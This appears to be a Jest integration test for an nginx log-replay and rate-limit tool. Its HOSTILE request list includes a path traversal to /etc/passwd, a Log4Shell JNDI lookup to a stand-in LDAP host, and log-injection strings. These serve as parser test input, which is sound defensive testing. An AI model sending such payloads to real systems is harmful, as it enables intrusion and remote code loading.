import { readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { compilePolicy, type PolicyFile, readPolicyFile } from '@sluice/config';
import { MemoryStore } from '@sluice/core';
import { ManualClock } from '@sluice/core/testing';
import { rateLimit } from '@sluice/express';
import { debianProgram } from '@sluice/test-kit/debian/debian-program';
import { ServerProgram } from '@sluice/test-kit/debian/server-program';
import { until } from '@sluice/test-kit/until';
import express from 'express';
import type { ReplayResult } from '../../src/replay/replay-result.js';
import { sluice } from '../test-io.js';

debianProgram('nginx');

/** The formats in which nginx writes every request, each into a log of its own. */
const FORMATS = {
  combined: undefined,
  timed: `'$remote_addr $remote_user [$time_local] $msec $request_time "$request" $status $upstream_status "$http_user_agent" "$http_x_api_key"'`,
  lines: `escape=json '{"time":"$time_iso8601","msec":"$msec","request_time":"$request_time","remote_addr":"$remote_addr","remote_user":"$remote_user","request":"$request","status":"$status","http_x_api_key":"$http_x_api_key"}'`,
} as const;

const POLICIES = `
version: 1
keys: { customer: { header: x-api-key } }
policies:
  api: { match: { path: /v1/** }, key: customer, limits: [{ name: hour, limit: 5, window: 1h }] }
`;

let file: PolicyFile;
let application: Server;
let nginx: ServerProgram;

beforeAll(async () => {
  const read = readPolicyFile(POLICIES);
  if (!read.file) throw new Error(JSON.stringify(read.mistakes));
  file = read.file;
  const app = express();
  app.use('/v1', rateLimit(compilePolicy(file, 'api', { store: new MemoryStore() })));
  app.use((_req, res) => void res.send('ok'));
  application = createServer(app).listen(0, '127.0.0.1');
  await until(() => application.listening);
  nginx = await ServerProgram.start({
    program: 'nginx',
    args: ({ folder }) => ['-p', folder, '-c', 'nginx.conf'],
    files: ({ port }) => ({ 'nginx.conf': configuration(port, (application.address() as AddressInfo).port) }),
    readyPath: '/ready',
  });
});

afterAll(async () => {
  await nginx.stop();
  application.close();
});

function configuration(port: number, upstream: number): string {
  const formats = Object.entries(FORMATS).flatMap(([name, format]) =>
    format ? [`log_format ${name} ${format};`] : [],
  );
  const logs = Object.keys(FORMATS).map((name) => `access_log ${name}.log ${name};`);
  const folders = ['client_body', 'proxy', 'fastcgi', 'uwsgi', 'scgi'].map((name) => `${name}_temp_path ${name};`);
  return `
daemon off; pid nginx.pid; error_log error.log;
events {}
http {
  ${folders.join(' ')}
  ${formats.join('\n  ')}
  ${logs.join('\n  ')}
  server {
    listen 127.0.0.1:${port};
    location = /ready { access_log off; empty_gif; }
    location / { proxy_pass http://127.0.0.1:${upstream}; proxy_set_header Connection ""; proxy_http_version 1.1; }
  }
}`;
}

/** Sends bytes, and resolves with the status of the answer when the connection has ended. */
function send(bytes: string | Buffer): Promise<number> {
  return new Promise((resolve, reject) => {
    let answer = '';
    const socket = connect(nginx.port, '127.0.0.1', () => {
      // A client that ends its side has left, for nginx. Without an answer, it has to end.
      if (bytes.includes('Connection: close')) socket.write(bytes);
      else socket.end(bytes);
    });
    socket.setEncoding('latin1').on('data', (text) => {
      answer += text;
    });
    socket.on('error', reject).on('close', () => resolve(Number(/^HTTP\/1\.\d (\d+)/.exec(answer)?.[1] ?? 0)));
  });
}

const get = (path: string, ...fields: string[]): string =>
  [`GET ${path} HTTP/1.1`, 'Host: localhost', 'Connection: close', ...fields, '', ''].join('\r\n');

const user = (name: string): string => `Authorization: Basic ${Buffer.from(`${name}:x`).toString('base64')}`;

/** What the internet sends to servers. */
const HOSTILE: readonly (string | Buffer)[] = [
  Buffer.from('16030102000100010001fc0303aabbccdd0a0d22275c20', 'hex'),
  Buffer.from([...Array(256).keys()]),
  '\r\n\r\n\r\n',
  'GET /\r\n\r\n',
  'GET / HTTP/9.9\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  'CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\n\r\n',
  'SSTP_DUPLEX_POST /sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET http://example.com/absolute?a=b HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n',
  get('/../../etc/passwd'),
  get('/no-host').replace('Host: localhost\r\n', ''),
  get('/"quotes"\\and\\backslashes'),
  get('/%22%5C%0A%00'),
  get('/caf\u00e9/\u65e5\u672c'),
  Buffer.concat([Buffer.from('GET /broken'), Buffer.from([0xc3, 0x28, 0xff, 0xfe]), Buffer.from(get('').slice(4))]),
  get(`/${'a'.repeat(9000)}`),
  get('/long-agent', `User-Agent: ${'x"\\'.repeat(2000)}`),
  get('/agent', 'User-Agent: " 200 5 "-" "x" [22/Nov/2026:19:00:44 +0000] \\x22 \\" {"a":1}'),
  get('/agent', 'User-Agent: \u0001\u007f\u00ff\u00e9'),
  get('/user', user('Jane Doe')),
  get('/user', user('Jane [Doe] "x" \\ - - [22/Nov/2026:19:00:44 +0000] "GET / HTTP/1.1" 200 5')),
  get('/user', user('\n\r\t\u0000')),
  get('/log4j', 'X-Api-Key: \x24{jndi:ldap://192.0.2.1/a}', 'Referer: "\\"'),
];

async function replay(name: keyof typeof FORMATS, ...options: readonly string[]): Promise<ReplayResult> {
  const policies = join(nginx.folder, 'sluice.yaml');
  writeFileSync(policies, POLICIES);
  const format = name === 'lines' ? [] : ['--log-format', FORMATS[name] ?? 'combined'];
  const { out, err, exitCode } = await sluice(
    ['replay', policies, join(nginx.folder, `${name}.log`), ...format, '--json', ...options],
    { clock: new ManualClock() },
  );
  expect({ err, exitCode }).toEqual({ err: '', exitCode: 0 });
  return JSON.parse(out) as ReplayResult;
}

describe('a log of a real nginx', () => {
  const statuses: number[] = [];

  it('has a line for each hostile request, and every line is read', async () => {
    for (const bytes of HOSTILE) await send(bytes);
    // These are counted: two customers below and above their limit, and requests without a key, counted by address.
    for (const key of ['ann', 'bob', 'ann', 'ann', 'ann', 'ann', 'ann', 'ann', 'bob']) {
      statuses.push(await send(get('/v1/items', `X-Api-Key: ${key}`)));
    }
    for (let i = 0; i < 7; i += 1) statuses.push(await send(get('/v1/items?q="')));
    const sent = HOSTILE.length + statuses.length;
    await until(() => readFileSync(join(nginx.folder, 'lines.log'), 'utf8').split('\n').length > sent - 3, 20);
    for (const name of ['combined', 'timed', 'lines'] as const) {
      const lines = readFileSync(join(nginx.folder, `${name}.log`), 'latin1')
        .trimEnd()
        .split('\n');
      const result = await replay(name, ...(name === 'combined' ? ['--key', 'remote_addr'] : []));
      expect(result.lines).toMatchObject({ read: lines.length, unparsed: 0, firstUnparsed: [] });
      // An empty connection is no request, and has no line.
      expect(lines.length).toBeGreaterThan(sent - 3);
      expect(result.policies[0]?.requests.seen).toBe(statuses.length);
    }
  });

  it.each(['timed', 'lines'] as const)('replays to the refusals of the live application: %s', async (name) => {
    const refused = statuses.filter((status) => status === 429).length;
    expect(statuses.filter((status) => status === 200)).toHaveLength(statuses.length - refused);
    const { policies, topKeys, resolutionMs } = await replay(name);
    expect(resolutionMs).toBe(1);
    expect(policies[0]?.requests.refused).toBe(refused);
    expect(topKeys.map((key) => key.refused)).toEqual([2, 2]);
  });
});
